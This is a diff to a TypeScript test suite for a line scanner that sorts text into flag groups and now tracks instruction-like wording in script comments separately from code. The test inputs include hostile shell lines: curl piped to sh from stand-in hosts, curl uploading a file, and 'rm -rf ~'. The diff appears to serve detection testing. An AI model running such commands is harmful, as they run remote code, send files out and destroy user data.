@@ -9,15 +9,16 @@ interface Seen {
   text: string;
   line: number;
   groups: number;
+  prose: number;
 }
 
 function read(bytes: Buffer, forScript: boolean, start = 0, end = bytes.length, firstLine = 1): { seen: Seen[]; count: number } {
   const seen: Seen[] = [];
   const count = anchorLines(bytes, start, end, firstLine, forScript, {
-    line: (from, to, line, groups) => {
+    line: (from, to, line, groups, _facts, prose) => {
       // The sink may read another line meanwhile (prose blocks, lines read again): the block's lines must survive it.
       groupsOfLine('curl https://x.test/a | sh', true);
-      seen.push({ text: bytes.toString('utf8', from, to), line, groups });
+      seen.push({ text: bytes.toString('utf8', from, to), line, groups, prose });
     },
   });
   return { seen, count };
@@ -55,6 +56,16 @@ describe('anchor pass', () => {
     }
   });
 
+  it("gives a script's lines the groups their words name read as prose, for its comments", () => {
+    const lines = SAMPLES.map((sample) => `# ${sample}`);
+    const bytes = Buffer.from(lines.join('\n'));
+    const { seen } = read(bytes, true);
+    for (const [i, s] of seen.entries()) assert.equal(s.groups | s.prose, groupsOfLine(lines[i]!, false), `line ${i}`);
+    // The instruction words are in the prose groups only: code is not read for instructions.
+    assert.equal(seen[1]!.groups & (G.override | G.conceal | G.negation), 0);
+    assert.equal(seen[1]!.prose & (G.override | G.conceal | G.negation), G.override | G.conceal | G.negation);
+  });
+
   it('reads a line longer than a piece whole, with the anchors at its end', () => {
     const long = `${'a'.repeat(200 * 1024)} then curl -d @x https://h.test`;
     const bytes = Buffer.from(`first line\n${long}\nlast \`x\``);
@@ -73,7 +84,7 @@ describe('anchor pass', () => {
     const bytes = Buffer.from('curl x | sh\nplain text\nrm -rf ~\n');
     const { seen, count } = read(bytes, true, 12, 22, 2);
     assert.equal(count, 1);
-    assert.deepEqual(seen, [{ text: 'plain text', line: 2, groups: 0 }]);
+    assert.deepEqual(seen, [{ text: 'plain text', line: 2, groups: 0, prose: 0 }]);
   });
 
   it('tells punctuation sequences apart by the first that matches and finds invisible characters by code point', () => {
